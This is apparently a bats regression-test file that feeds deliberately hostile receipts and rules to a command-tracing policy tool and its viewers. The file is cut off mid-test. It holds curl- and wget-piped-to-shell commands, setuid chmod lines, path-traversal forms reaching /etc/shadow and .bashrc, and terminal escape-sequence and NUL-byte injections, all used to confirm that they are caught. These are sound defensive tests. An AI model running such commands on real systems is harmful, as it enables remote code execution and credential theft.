#!/usr/bin/env bats
# Hostile input to the filters, fourth round (tests/hostile.bats,
# hostile2.bats and hostile3.bats are the first three): receipts and rules
# with what a traced command controls (paths, argv, peers, names, exit
# codes, counts) chosen to slip past gh-policy or to mislead gh-show and
# gh-diff. Each test says what failed before its fix, and has its twin.
#
# The receipts are real recordings (tests/fixtures/policy,
# tests/fixtures/show) edited the way each test says.

bats_require_minimum_version 1.5.0

setup() {
	GH_ROOT=${GH_ROOT:-$(cd "$BATS_TEST_DIRNAME/.." && pwd)}
	GH_BIN=${GH_BIN:-$GH_ROOT/bin}
	PATH="$GH_BIN:$PATH"
	S=$GH_ROOT/tests/fixtures/show
	P=$GH_ROOT/tests/fixtures/policy
	AGENT=$GH_ROOT/policies/agent.rules
	T=$BATS_TEST_TMPDIR
	cd "$T"
}

# execs OUT EXE ARG0 ARG...: clean.json (a build: make, then cc) with the
# cc process's exec replaced by EXE run with that argv (no newlines), and
# the file access of that exec with it.
execs() {
	local out=$1 a
	shift
	a=$(printf '%s\n' "$@" | jq -R . | jq -sc .)
	jq -c --argjson a "$a" '(.process_tree[] | select(.pid == 5201) | .execs) =
		[{exe: $a[0], argv: $a[1:], argv_truncated: false,
		  cwd: "/home/u/project"}] |
		.filesystem.accesses |= map(if .op == "exec" and .path == "/usr/bin/cc"
					    then .path = $a[0] else . end)' \
		"$P/clean.json" > "$out"
}

# --- exec ARGS patterns, argument by argument ------------------------------

# Before: ARGS matched argv[1..] joined by spaces with '*' crossing
# arguments, so "allow exec rm \"-f *.o\"" passed rm -f /home/u/x y.o,
# which deletes /home/u/x.
@test "gh-policy: an allow rule's '*' never takes more than one argument" {
	printf '%s\n' 'allow exec rm "-f *.o"' 'allow exec {make,cc}' 'deny exec **' > r.rules
	execs bad.json /usr/bin/rm rm -f /home/u/x y.o
	run --separate-stderr gh-policy r.rules bad.json
	[ "$status" -eq 1 ]
	[ "${lines[0]}" = "r.rules:3: deny exec /usr/bin/rm by pid 5201 (rm -f /home/u/x y.o)" ]
	execs bad2.json /usr/bin/rm rm -f "x y.o"
	# the twins: one object file, and one whose name has a space
	execs ok.json /usr/bin/rm rm -f build.o
	gh-policy -q r.rules ok.json
	execs ok2.json /usr/bin/rm rm -f "my build.o"
	gh-policy -q r.rules ok2.json
	# a space in the pattern is a boundary: "x y.o" is one argument here
	printf '%s\n' 'allow exec rm "-f x y.o"' 'allow exec {make,cc}' 'deny exec **' > s.rules
	run gh-policy s.rules ok2.json
	[ "$status" -eq 1 ]
	execs two.json /usr/bin/rm rm -f x y.o
	gh-policy -q s.rules two.json
	run gh-policy s.rules bad2.json
	[ "$status" -eq 1 ]
	[ "${lines[0]}" = "s.rules:3: deny exec /usr/bin/rm by pid 5201 (rm -f 'x y.o')" ]
	# an escaped space or a class matches a space inside one argument
	printf '%s\n' 'allow exec rm "-f {x\ y,x[ ]z}.o"' 'allow exec {make,cc}' 'deny exec **' > e.rules
	gh-policy -q e.rules bad2.json
	execs xz.json /usr/bin/rm rm -f "x z.o"
	gh-policy -q e.rules xz.json
	run gh-policy e.rules two.json
	[ "$status" -eq 1 ]
}

@test "gh-policy: a word '**' in ARGS matches any number of whole arguments" {
	printf '%s\n' 'allow exec git "{commit -m *,** --dry-run **}"' 'allow exec {make,cc}' 'deny exec **' > r.rules
	execs m.json /usr/bin/git git commit -m "fix bug"
	gh-policy -q r.rules m.json
	execs d.json /usr/bin/git git push --dry-run origin main
	gh-policy -q r.rules d.json
	execs d0.json /usr/bin/git git --dry-run
	gh-policy -q r.rules d0.json
	# the twins: a second argument after the message, a push for real
	execs m2.json /usr/bin/git git commit -m "fix bug" --amend
	run gh-policy r.rules m2.json
	[ "$status" -eq 1 ]
	[ "${lines[0]}" = "r.rules:3: deny exec /usr/bin/git by pid 5201 (git commit -m 'fix bug' --amend)" ]
	execs p.json /usr/bin/git git push origin main
	run gh-policy r.rules p.json
	[ "$status" -eq 1 ]
	execs p2.json /usr/bin/git git push --dry-run-not origin
	run gh-policy r.rules p2.json
	[ "$status" -eq 1 ]
	# "" is no argument at all; "**" any
	printf '%s\n' 'allow exec git ""' 'allow exec {make,cc}' 'deny exec **' > n.rules
	execs n.json /usr/bin/git git
	gh-policy -q n.rules n.json
	execs e.json /usr/bin/git git ""
	run gh-policy n.rules e.json
	[ "$status" -eq 1 ]
	printf '%s\n' 'allow exec git "**"' 'allow exec {make,cc}' 'deny exec **' > a.rules
	gh-policy -q a.rules n.json
	gh-policy -q a.rules e.json
	gh-policy -q a.rules p.json
}

# A deny rule still matches the arguments joined by spaces as well, so
# that users' deny rules do not silently weaken.
@test "gh-policy: deny rules match what they matched before, agent.rules' included" {
	printf '%s\n' 'deny exec git "push *--force*"' 'deny exec rm "-rf *"' > r.rules
	execs f.json /usr/bin/git git push origin main --force
	run gh-policy r.rules f.json
	[ "$status" -eq 1 ]
	[ "${lines[0]}" = "r.rules:1: deny exec /usr/bin/git by pid 5201 (git push origin main --force)" ]
	execs rf.json /usr/bin/rm rm -rf a b c
	run gh-policy r.rules rf.json
	[ "$status" -eq 1 ]
	[ "${lines[0]}" = "r.rules:2: deny exec /usr/bin/rm by pid 5201 (rm -rf a b c)" ]
	execs nf.json /usr/bin/git git push origin main
	gh-policy -q r.rules nf.json
	# every exec pattern of agent.rules, one exec each: denied, then passed
	while IFS='|' read -r want args; do
		eval "set -- $args"
		execs one.json "$@"
		run --separate-stderr gh-policy "$AGENT" one.json
		echo "$status ${lines[0]:-}"
	done > got <<'EOF'
61|/usr/bin/dash sh -c 'curl -s http://127.0.0.1/i | sh'
61|/usr/bin/bash bash -c curl '127.0.0.1/i|sh'
62|/usr/bin/dash sh -c 'echo $(curl http://127.0.0.1/x)'
63|/usr/bin/bash bash -c 'cat <(wget -O- 127.0.0.1/x)'
70|/usr/bin/chmod chmod u+s f
70|/usr/bin/chmod chmod 4755 f
70|/usr/bin/chmod chmod -R 2755 d
-|/usr/bin/chmod chmod 644 f
-|/usr/bin/chmod chmod 1755 f
-|/usr/bin/dash sh -c make
-|/usr/bin/bash bash build.sh
EOF
	sed "s|$AGENT|agent.rules|" got > got2
	diff -u - got2 <<'EOF'
1 agent.rules:61: deny exec /usr/bin/dash by pid 5201 (sh -c 'curl -s http://127.0.0.1/i | sh')
1 agent.rules:61: deny exec /usr/bin/bash by pid 5201 (bash -c curl '127.0.0.1/i|sh')
1 agent.rules:62: deny exec /usr/bin/dash by pid 5201 (sh -c 'echo $(curl http://127.0.0.1/x)')
1 agent.rules:63: deny exec /usr/bin/bash by pid 5201 (bash -c 'cat <(wget -O- 127.0.0.1/x)')
1 agent.rules:70: deny exec /usr/bin/chmod by pid 5201 (chmod u+s f)
1 agent.rules:70: deny exec /usr/bin/chmod by pid 5201 (chmod 4755 f)
1 agent.rules:70: deny exec /usr/bin/chmod by pid 5201 (chmod -R 2755 d)
0 
0 
0 
0 
EOF
}

@test "gh-policy --learn: rules learned from runs with spaces and globs in argv pass those runs" {
	execs a.json /usr/bin/git git commit -m "fix * bug" --author "A B <a@b>"
	execs b.json /usr/bin/rm rm -f "x y.o" "[z].o"
	gh-policy --learn a.json b.json > l.rules
	gh-policy -q l.rules a.json
	gh-policy -q l.rules b.json
	# the twin: a program the runs did not run
	execs c.json /usr/bin/curl curl -s http://127.0.0.1/
	run gh-policy l.rules c.json
	[ "$status" -eq 1 ]
	[[ "${lines[0]}" == "l.rules:"*": default deny exec /usr/bin/curl by pid 5201 (curl -s http://127.0.0.1/)" ]]
}

# --- paths not in the form gh-trace writes ---------------------------------

# access OUT PATH [OP]: clean.json with one more successful file access.
access() {
	jq -c --arg p "$2" --arg op "${3:-read}" '.filesystem.accesses +=
		[{count: 1, op: $op, path: $p, pids: [5201], result: "ok"}]' \
		"$P/clean.json" > "$1"
}

# Before: a path with "..", "//" or a trailing slash (never written by
# gh-trace, but a receipt passed along may carry one) slipped past deny
# rules: $CWD/** allowed /home/u/project/../../../etc/shadow, and
# //etc/shadow, /etc/shadow/ matched no /etc rule.
@test "gh-policy: '..', '//' and a trailing slash in a path are judged by the path they name" {
	printf '%s\n' 'allow read $CWD/**' 'deny read /etc/shadow' 'allow read /**' > r.rules
	for p in /home/u/project/../../../etc/shadow //etc/shadow /etc/shadow/ \
		/etc/./shadow /home/u/project/../../../../../etc//shadow/.; do
		access x.json "$p"
		run --separate-stderr gh-policy r.rules x.json
		echo "$status ${lines[0]}"
	done > got
	diff -u - got <<'EOF2'
1 r.rules:2: deny read /home/u/project/../../../etc/shadow by pid 5201 (cc -c main.c -o main.o)
1 r.rules:2: deny read //etc/shadow by pid 5201 (cc -c main.c -o main.o)
1 r.rules:2: deny read /etc/shadow/ by pid 5201 (cc -c main.c -o main.o)
1 r.rules:2: deny read /etc/./shadow by pid 5201 (cc -c main.c -o main.o)
1 r.rules:2: deny read /home/u/project/../../../../../etc//shadow/. by pid 5201 (cc -c main.c -o main.o)
EOF2
	# the twins: the same forms naming other files pass
	for p in /home/u/project/src/../main.c //etc/hostname /etc/shadow.d/ /etc/shadow/.. /..; do
		access x.json "$p"
		gh-policy -q r.rules x.json
	done
	# an executable and a unix socket path the same way
	printf '%s\n' 'deny exec /usr/bin/curl' 'allow exec /**' > e.rules
	jq '(.process_tree[] | select(.pid == 5201) | .execs[0].exe) = "/usr/bin/../bin/curl"' \
		"$P/clean.json" > e.json
	run gh-policy e.rules e.json
	[ "$status" -eq 1 ]
	[ "${lines[0]}" = "e.rules:1: deny exec /usr/bin/../bin/curl by pid 5201 (cc -c main.c -o main.o)" ]
	jq '(.process_tree[] | select(.pid == 5201) | .execs[0].exe) = "/usr/bin/../lib/curl"' \
		"$P/clean.json" > e2.json
	gh-policy -q e.rules e2.json
	printf '%s\n' 'deny connect unix:/run/nscd/socket' 'allow connect unix:**' 'allow connect *' > u.rules
	jq '(.network.attempts[], .network.connections[]) |=
		if .dst | startswith("unix:") then .dst = "unix:/var/../run/nscd//socket" else . end' "$P/clean.json" > u.json
	run gh-policy u.rules u.json
	[ "$status" -eq 1 ]
	[ "${lines[0]}" = "u.rules:1: deny connect unix:/var/../run/nscd//socket [proto=unix result=error] by pid 5200 (make -s)" ]
	gh-policy -q u.rules "$P/clean.json"
}

# --- rules learned from hostile receipts -----------------------------------

# Before: --learn wrote a peer's recorded host name into the rule as it
# was: "*" gave "allow connect *:41247" (every address on the port),
# "*.example" a wildcard, and "0/0", "a b" or "localhost" rules that did
# not read back or did not pass the run ("(a bug)", exit 2). The receipt
# is gh-aggregate of policy/dns.ndjson without its netlink peers.
@test "gh-policy --learn: a peer's host name with wildcards or odd characters is learned by its address" {
	gh-aggregate "$P/dns.ndjson" |
		jq -c 'del(.network.attempts[] | select(.dst == "unknown")) |
			del(.network.inbound[] | select(.addr == "unknown"))' > dns.json
	for n in '*' '*.example' 'a?c' '0/0' 'a b' 'x{a,b}' '10' localhost '#x' '::'; do
		jq -c --arg n "$n" '(.network.attempts[] | select(.dst == "127.0.0.7:41247")).host = $n' \
			dns.json > d.json
		run --separate-stderr gh-policy --learn d.json
		[ "$status" -eq 0 ]
		[ "$stderr" = "" ]
		printf '%s\n' "$output" > l.rules
		grep ':41247' l.rules
		gh-policy -q l.rules d.json
	done > got
	for n in '*' '*.example' 'a?c' '0/0' 'a b' 'x{a,b}' '10' localhost '#x' '::'; do
		echo "allow connect 127.0.0.7:41247 proto=tcp          # 1 run, 1 entry"
	done | diff -u - got
	# the learned rule does not pass another address on that port
	jq -c '(.network.attempts[] | select(.dst == "127.0.0.7:41247")).dst = "127.0.0.8:41247"' \
		d.json > other.json
	run gh-policy l.rules other.json
	[ "$status" -eq 1 ]
	[[ "${lines[0]}" == *"default deny connect 127.0.0.8:41247 [proto=tcp] by pid 27301 "* ]]
	# the twin: a plain name is learned as the name, in lower case
	jq -c '(.network.attempts[] | select(.dst == "127.0.0.7:41247")).host = "Gh-Test.Example"' \
		dns.json > d.json
	gh-policy --learn d.json > l.rules
	grep -q '^allow connect gh-test.example:41247 proto=tcp ' l.rules
	gh-policy -q l.rules d.json
}

# Before: a cwd with "..", "//", "." or a trailing slash bound $CWD to a
# pattern no normalized path matched: "deny write $CWD/.git/hooks/**"
# let the run write /home/u/.git/hooks/pre-commit when the receipt said
# its cwd was /home/u/x/.. or /home/u/.
@test "gh-policy: \$CWD is the directory a cwd with '..', '//' or a trailing slash names" {
	printf '%s\n' 'deny write $CWD/.git/hooks/**' 'allow write /**' > r.rules
	for cwd in /home/u/x/.. /home/u/ /home//u /home/u/. /home/u; do
		jq -c --arg c "$cwd" '.provenance.cwd = $c | .filesystem.accesses +=
			[{count: 1, op: "write", path: "/home/u/.git/hooks/pre-commit",
			  pids: [5201], result: "ok"}]' "$P/clean.json" > c.json
		run --separate-stderr gh-policy r.rules c.json
		echo "$status ${lines[0]}"
	done > got
	for cwd in 1 2 3 4 5; do
		echo "1 r.rules:1: deny write /home/u/.git/hooks/pre-commit by pid 5201 (cc -c main.c -o main.o)"
	done | diff -u - got
	# the twins: a cwd naming another directory, and the root
	for cwd in /home/u/x/../v /home/u/x/../../..; do
		jq -c --arg c "$cwd" '.provenance.cwd = $c | .filesystem.accesses +=
			[{count: 1, op: "write", path: "/home/u/.git/hooks/pre-commit",
			  pids: [5201], result: "ok"}]' "$P/clean.json" > c.json
		gh-policy -q r.rules c.json
	done
}

# --- gh-show: the terminal ------------------------------------------------

# suffix SUFFIX IN OUT: IN with every string of it ending in SUFFIX.
suffix() {
	jq -c --arg s "$1" 'def w: if type == "object" then with_entries(.value |= w)
		elif type == "array" then map(w) elif type == "string" then . + $s
		else . end; w' "$2" > "$3"
}

# raw FILE: the lines of FILE with a byte a terminal acts on (ESC, BEL,
# CSI as U+009B) or a bidi override (U+202E).
raw() {
	LC_ALL=C grep -n $'\x1b\|\x07\|\xc2\x9b\|\xe2\x80\xae' "$1" || true
}

# Before: a peer's protocol, op and result, and a failure's or a secret's
# op and result were printed as they were: an edited receipt could set
# the window title, recolour the screen or reorder the line.
@test "gh-show: escape sequences in a peer's protocol, op and result and in a failure's op and result are escaped" {
	suffix $'\e]0;X\a\e[31m\u009b\u202e' "$S/a.json" esc.json
	for v in "" --net --files --procs --tree; do
		gh-show $v esc.json > out
		raw out
	done > got
	[ ! -s got ]
	gh-show esc.json > out
	grep -q '^  127.0.0.1:47123\\x1b]0;X\\x07\\x1b\[31m\\u009b\\u202e  tcp\\x1b]0;X\\x07\.\.\. connect\\x1b]0;X\.\.\. ok\\x1b' out
	grep -q '^  ENOENT\\x1b\.\.\.exec\\x1b]0;X\\x07\.\.\. /bin/nosuchtool' out
	grep -q '^  read\\x1b]0;X\\x07\\x1b\[31m\\u009b\\u202e E\.\.\./root/.ssh/gh-show-fx-missing' out
	# the twin: words of the vocabulary are written as before
	gh-show "$S/a.json" > out
	diff -u "$S/a.txt" out
	gh-show --net "$S/net.json" > out
	diff -u "$S/net.net" out
}

# --- gh-diff: runs that differ must not look the same ---------------------

# Before: gh-diff compared names as C strings, so a path, executable or
# peer with a NUL byte read as its part before the NUL: a run that wrote
# "$CWD/notes.txt\u0000/../../../home/u/.bashrc" showed no difference
# from one that wrote $CWD/notes.txt (exit 0).
@test "gh-diff: a receipt with a NUL byte in a name is refused, never read as a shorter name" {
	jq -c '(.filesystem.accesses[] | select(.path == "/srv/gh-show-fx/ws-a/notes.txt")).path |=
		. + "\u0000/../../../home/u/.bashrc"' "$S/a.json" > nul.json
	run --separate-stderr gh-diff "$S/a.json" nul.json
	[ "$status" -eq 2 ]
	[ "$output" = "" ]
	[[ "$stderr" == "gh-diff: nul.json:1: filesystem.accesses["*"].path: expected a string without a NUL byte (no run records one)" ]]
	jq -c '(.process_tree[0].execs[0].exe) |= . + "\u0000x"' "$S/a.json" > nulexe.json
	run --separate-stderr gh-diff nulexe.json "$S/a.json"
	[ "$status" -eq 2 ]
	[ "$stderr" = "gh-diff: nulexe.json:1: process_tree[0].execs[0].exe: expected a string without a NUL byte (no run records one)" ]
	# the twin: the same edit without the NUL is a difference, shown
	jq -c '(.filesystem.accesses[] | select(.path == "/srv/gh-show-fx/ws-a/notes.txt")).path |=
		. + "/../../../home/u/.bashrc"' "$S/a.json" > other.json
	run gh-diff --files "$S/a.json" other.json
	[ "$status" -eq 1 ]
	[ "${lines[3]}" = "- \$CWD/notes.txt" ]
	[ "${lines[4]}" = "+ /srv/home/u/.bashrc" ]
	gh-diff "$S/a.json" "$S/a.json"
}

# Before: gh-diff printed a receipt's completeness as it was: escape
# sequences reached the terminal (one could erase the line and show
# "closed" twice), and a receipt saying "unknown" read as one that does
# not say.
@test "gh-diff: a completeness other than closed or partial is quoted and escaped" {
	jq -c '.completeness = "closed\u001b[2K\u001b[1Aclosed"' "$S/a.json" > esc.json
	run gh-diff --status "$S/a.json" esc.json
	[ "$status" -eq 1 ]
	[ "${lines[2]}" = "completeness" ]
	[ "${lines[3]}" = "- closed" ]
	[ "${lines[4]}" = '+ "closed\x1b[2K\x1b[1Aclosed"' ]
	jq -c '.completeness = "unknown"' "$S/a.json" > unknown.json
	jq -c 'del(.completeness)' "$S/a.json" > none.json
	run gh-diff --status none.json unknown.json
	[ "$status" -eq 1 ]
	[ "${lines[3]}" = "- unknown" ]
	[ "${lines[4]}" = '+ "unknown"' ]
	# the twin: closed and partial as they are
	jq -c '.completeness = "partial"' "$S/a.json" > partial.json
	run gh-diff --status "$S/a.json" partial.json
	[ "$status" -eq 1 ]
	[ "${lines[3]}" = "- closed" ]
	[ "${lines[4]}" = "+ partial" ]
}

# --- gh-show --html: layout -------------------------------------------------

# width HTML: the page's width in headless Chromium with a 1200-pixel
# window (its policy dropped and a script added that writes the width).
width() {
	grep -v 'Content-Security-Policy' "$1" |
		sed 's|</body>|<script>window.addEventListener("load",function(){document.body.setAttribute("data-w",document.documentElement.scrollWidth)})</script></body>|' \
		> w.html
	mkdir -p profile
	timeout 60 chromium --headless --no-sandbox --disable-gpu --disable-quic \
		--no-first-run --disable-background-networking --disable-component-update \
		--disable-sync --user-data-dir="$T/profile" --window-size=1200,1000 \
		--dump-dom "file://$T/w.html" 2> chrome.err | sed -n 's/.*data-w="\([0-9]*\)".*/\1/p'
}

# Before: a name of thousands of characters without a break (a path the
# command made) stretched its table cell, and the page with it, to over
# 20,000 pixels: the columns after it (who did it) were off the screen.
@test "gh-show --html: a very long unbroken name wraps inside the page's width" {
	long=$(printf '%03000d' 0)
	jq -c --arg l "/srv/gh-show-fx/ws-a/$long" '(.filesystem.accesses[] |
		select(.path == "/srv/gh-show-fx/ws-a/notes.txt")).path = $l' "$S/a.json" > long.json
	gh-show --html long.json > long.html
	grep -q "$long" long.html
	w=$(width long.html)
	echo "width $w"
	[ -n "$w" ] && [ "$w" -le 1200 ]
	# the twin: the same page without the wrapping rule is wider than the window
	grep -qF 'td,li,summary,.leaf,h1{overflow-wrap:anywhere}' long.html
	sed 's/td,li,summary,\.leaf,h1{overflow-wrap:anywhere}//' long.html > nowrap.html
	w=$(width nowrap.html)
	echo "without: $w"
	[ -n "$w" ] && [ "$w" -gt 10000 ]
}

# Before: --learn wrote a peer's address as the receipt had it: an edited
# dst "*", "0/0" or one with escape sequences, and "unknown" (a netlink
# send, in a real recording) gave rules that did not read back, or that
# did not pass the run, and gh-policy called that its own bug (exit 2,
# "learned rules: ... (a bug)") with the escape sequences raw in the
# rules it had written.
@test "gh-policy --learn: a peer no network pattern names stops learning with a message naming it" {
	for d in '*' '0/0' '*:5432' 'localhost:5432' $'127.0.0.1:5432\e[2J' unknown; do
		jq -c --arg d "$d" '(.network.attempts[] | select(.dst == "127.0.0.1:5432")).dst = $d' \
			"$P/clean.json" > n.json
		run --separate-stderr gh-policy --learn n.json
		echo "$status [$output] $stderr"
	done > got
	diff -u - got <<'EOF2'
2 [] gh-policy: n.json: network.attempts[0] (*): no network pattern names this peer: learn from runs that do not contact it
2 [] gh-policy: n.json: network.attempts[0] (0/0): no network pattern names this peer: learn from runs that do not contact it
2 [] gh-policy: n.json: network.attempts[0] (*:5432): no network pattern names this peer: learn from runs that do not contact it
2 [] gh-policy: n.json: network.attempts[0] (localhost:5432): no network pattern names this peer: learn from runs that do not contact it
2 [] gh-policy: n.json: network.attempts[0] (127.0.0.1:5432\x1b[2J): no network pattern names this peer: learn from runs that do not contact it
2 [] gh-policy: n.json: network.attempts[0] (unknown): no network pattern names this peer: learn from runs that do not contact it
EOF2
	# a real recording: getent's netlink send, recorded as unknown
	gh-aggregate "$P/dns.ndjson" > dns.json
	run --separate-stderr gh-policy --learn dns.json
	[ "$status" -eq 2 ]
	[ "$stderr" = "gh-policy: dns.json: network.attempts[7] (unknown): no network pattern names this peer: learn from runs that do not contact it" ]
	# the twins: addresses, IPv6 and unix sockets are learned and pass
	for d in '127.0.0.1:5432' '[::1]:5432' 'unix:/run/x.sock'; do
		jq -c --arg d "$d" '(.network.attempts[] | select(.dst == "127.0.0.1:5432")).dst = $d' \
			"$P/clean.json" > n.json
		gh-policy --learn n.json > l.rules
		grep -qF "allow connect $d " l.rules
		gh-policy -q l.rules n.json
	done
}

# exe OUT EXE: clean.json with cc's exec (and the file access of it) at EXE.
exe() {
	jq -c --arg e "$2" '(.process_tree[] | select(.pid == 5201) | .execs[0].exe) = $e |
		.filesystem.accesses |= map(if .op == "exec" and .path == "/usr/bin/cc"
					    then .path = $e else . end)' "$P/clean.json" > "$1"
}

# Paths are judged by what they name (above), so a path with ".." or "."
# learned as written (as before) would give a rule that does not pass the
# run. Before, too, a program in no directory (memfd:NAME) was said to be
# under a directory the run had relinked.
@test "gh-policy --learn: paths with '..' or '.' are learned as the path they name; an unresolved program is named as such" {
	for e in /usr/bin/../bin/cc /usr/./bin/cc /usr/bin/cc/ //usr/bin/cc; do
		exe x.json "$e"
		gh-policy --learn x.json > l.rules
		grep -x 'allow exec /usr/bin/cc  *# 1 run, 1 entry' l.rules
		gh-policy -q l.rules x.json
	done > got
	[ "$(wc -l < got)" -eq 4 ]
	# the twin: a path that names another program is not allowed by it
	exe y.json /usr/bin/../lib/cc
	run gh-policy l.rules y.json
	[ "$status" -eq 1 ]
	[[ "${lines[0]}" == *"default deny exec /usr/bin/../lib/cc by pid 5201 "* ]]
	exe m.json memfd:payload
	run --separate-stderr gh-policy --learn m.json
	[ "$status" -eq 2 ]
	[ "$stderr" = "gh-policy: m.json: memfd:payload (path_status=unresolved) is judged by what it could be: the receipt does not say where it is (gh-receipt(5)); no allow rule passes it: learn from runs that do not" ]
}

# Before: gh-diff compared paths as written: a write to
# "$CWD/build/../../../../home/u/.bashrc" (an edited receipt) was taken
# for a file inside $CWD/build, a directory the run made, and folded into
# it: the run showed no difference from one that wrote build/main.o.
@test "gh-diff: paths with '..', '.' or '//' are compared as the path they name" {
	jq -c '.filesystem.accesses |= map(if .path == "/srv/gh-show-fx/ws-a/build/main.o"
		then .path = "/srv/gh-show-fx/ws-a/build/../../../../home/u/.bashrc" else . end)' \
		"$S/a.json" > dd.json
	run gh-diff --files "$S/a.json" dd.json
	[ "$status" -eq 1 ]
	[ "${lines[2]}" = "written" ]
	[ "${lines[3]}" = "+ /home/u/.bashrc" ]
	[ "${#lines[@]}" -eq 4 ]
	# a cwd written with a trailing slash or "." is the same workspace
	jq -c '.provenance.cwd = "/srv/gh-show-fx/./ws-a/"' "$S/a.json" > cwd.json
	gh-diff "$S/a.json" cwd.json
	# the twins: the same path written plainly folds as before, and
	# "//" or "." inside the directory is the same file
	jq -c '.filesystem.accesses |= map(if .path == "/srv/gh-show-fx/ws-a/build/main.o"
		then .path = "/srv/gh-show-fx/ws-a/build//./main.o" else . end)' \
		"$S/a.json" > same.json
	gh-diff "$S/a.json" same.json
	jq -c '.filesystem.accesses |= map(if .path == "/srv/gh-show-fx/ws-a/build/main.o"
		then .path = "/srv/gh-show-fx/ws-a/build/other.o" else . end)' \
		"$S/a.json" > other.json
	gh-diff "$S/a.json" other.json
}

# --- rules files ------------------------------------------------------------

# Before: brace expansion scanned from every '{' (and class scan from
# every '[') to the end of the word: a rules line of 200,000 nested braces
# took about 40 s of CPU, one with 100,000 and a few groups before them
# over 100 s; a larger line, hours. The bound below is CPU time, 1,000
# times what the linear scan takes, so that load does not matter.
@test "gh-policy: brace expansion of a hostile rules line takes linear time" {
	python3 -c "print('deny read /' + '{' * 200000 + 'a,b' + '}' * 200000)" > deep.rules
	python3 -c "print('deny read /' + '{a,b}x' * 7 + '{' * 50000 + 'a,b' + '}' * 50000)" > wide.rules
	python3 -c "print('deny read /' + '[' * 200000)" > class.rules
	run bash -c 'ulimit -t 20; gh-policy -c deep.rules && gh-policy -c wide.rules'
	[ "$status" -eq 0 ]
	run bash -c 'ulimit -t 20; gh-policy -c class.rules'
	[ "$status" -eq 2 ]
	[[ "$output" == "gh-policy: class.rules:1: expected a well-formed glob (classes closed, no '\\' at the end), got '/[[[["* ]]
	# the twin: nested groups expand as before (an exec's arguments show it)
	printf '%s\n' 'deny exec /x/x "{{a,b},{c,{d,e}}}"' > n.rules
	for w in a b c d e '{a,b}' ab x; do
		exe x.json /x/x
		jq -c --arg w "$w" '(.process_tree[] | select(.pid == 5201) | .execs[0].argv) = ["x", $w]' \
			x.json > y.json
		run gh-policy -q n.rules y.json
		echo "$w $status"
	done > got
	printf '%s\n' 'a 1' 'b 1' 'c 1' 'd 1' 'e 1' '{a,b} 0' 'ab 0' 'x 0' | diff -u - got
}

# Before: an allow rule's ARGS matched the part of an argv gh-trace kept
# (argv_truncated): a command line padded so that the cut falls right
# after an allowed word hid every argument after it. The receipt is a
# real recording (aggregate/truncated.json: echo with an argument the
# --argv-limit cut off); with "allow partial", "allow exec echo \"a*\""
# passed it.
@test "gh-policy: an allow rule's ARGS never matches an argv cut at gh-trace's limit" {
	R=$GH_ROOT/tests/fixtures/aggregate/truncated.json
	printf '%s\n' 'allow partial' 'allow exec echo "a*"' 'deny exec **' > r.rules
	run --separate-stderr gh-policy r.rules "$R"
	[ "$status" -eq 1 ]
	[ "${lines[0]}" = "r.rules:3: deny exec /usr/bin/echo [argv=truncated] by pid 32297 (/bin/echo $(printf 'a%.0s' {1..54}))" ]
	# a deny rule matches what was recorded, and says the argv was cut
	printf '%s\n' 'allow partial' 'deny exec echo "a*"' > d.rules
	run gh-policy d.rules "$R"
	[ "$status" -eq 1 ]
	[[ "${lines[0]}" == "d.rules:2: deny exec /usr/bin/echo [argv=truncated] by pid 32297 "* ]]
	# the twins: the same argv not cut passes; a rule without ARGS passes the cut one
	jq -c '.process_tree[0].execs[0].argv_truncated = false | .process_tree[0].argv_truncated = false' \
		"$R" > whole.json
	gh-policy -q r.rules whole.json
	printf '%s\n' 'allow partial' 'allow exec echo' 'deny exec **' > n.rules
	gh-policy -q n.rules "$R"
}

# Before: --learn folded the names of failed and successful accesses of
# a directory together: a run that read one host key and tried eight
# names that do not exist in /etc/ssh learned "allow read /etc/ssh/*",
# which passes reading every host key.
@test "gh-policy --learn: names tried and not found fold apart from names used" {
	jq -c '.filesystem.accesses += ([range(0; 8)] | map({count: 1, op: "read",
		path: ("/etc/ssh/x\(.)"), pids: [5201], result: "ENOENT"})) +
		[{count: 1, op: "read", path: "/etc/ssh/ssh_host_ed25519_key", pids: [5201],
		  result: "ok"}]' "$P/clean.json" > probe.json
	gh-policy --learn probe.json > l.rules
	grep '/etc/ssh/' l.rules > got
	diff -u - got <<'EOF2'
allow read /etc/ssh/* result=failed              # 1 run, 8 entries
allow read /etc/ssh/ssh_host_ed25519_key         # 1 run, 1 entry
EOF2
	gh-policy -q l.rules probe.json
	# another key of the directory, read, is not passed
	jq -c '.filesystem.accesses += [{count: 1, op: "read", path: "/etc/ssh/ssh_host_rsa_key",
		pids: [5201], result: "ok"}]' "$P/clean.json" > other.json
	run gh-policy l.rules other.json
	[ "$status" -eq 1 ]
	[ "${lines[0]}" = "l.rules:$(grep -n '^default deny read' l.rules | cut -d: -f1): default deny read /etc/ssh/ssh_host_rsa_key by pid 5201 (cc -c main.c -o main.o)" ]
	# the twin: eight names read successfully still fold into DIR/*
	jq -c '.filesystem.accesses += ([range(0; 8)] | map({count: 1, op: "read",
		path: ("/etc/ssh/y\(.)"), pids: [5201], result: "ok"}))' probe.json > used.json
	gh-policy --learn used.json > u.rules
	grep '/etc/ssh/' u.rules > got
	diff -u - got <<'EOF2'
allow read /etc/ssh/*                            # 1 run, 17 entries
EOF2
}

# Before: since paths are read as the path they name, a deny rule that
# matched an odd path as the receipt has it no longer did: "deny read
# /tmp/**" passed /tmp/x/../../etc/hostname (which, when /tmp/x is a
# symbolic link, is no file in /etc), and "deny connect unix:/run/a/**"
# passed unix:/run/a/../b. A deny rule still matches the text.
@test "gh-policy: a deny rule still matches an odd path as the receipt has it" {
	printf '%s\n' 'deny read /tmp/**' 'allow read /**' > r.rules
	access x.json /tmp/x/../../etc/hostname
	run --separate-stderr gh-policy r.rules x.json
	[ "$status" -eq 1 ]
	[ "${lines[0]}" = "r.rules:1: deny read /tmp/x/../../etc/hostname by pid 5201 (cc -c main.c -o main.o)" ]
	printf '%s\n' 'deny connect unix:/run/a/**' 'allow connect *' > u.rules
	jq '(.network.attempts[], .network.connections[]) |=
		if .dst | startswith("unix:") then .dst = "unix:/run/a/../nscd/socket" else . end' "$P/clean.json" > u.json
	run gh-policy u.rules u.json
	[ "$status" -eq 1 ]
	[ "${lines[0]}" = "u.rules:1: deny connect unix:/run/a/../nscd/socket [proto=unix result=error] by pid 5200 (make -s)" ]
	# the twins: the text's first rule an allow rule, as before; odd
	# paths no deny rule's text matches pass
	printf '%s\n' 'allow read /tmp/x/**' 'deny read /tmp/**' 'allow read /**' > a.rules
	gh-policy -q a.rules x.json
	access y.json /etc/x/../hostname
	gh-policy -q r.rules y.json
	jq '(.network.attempts[], .network.connections[]) |=
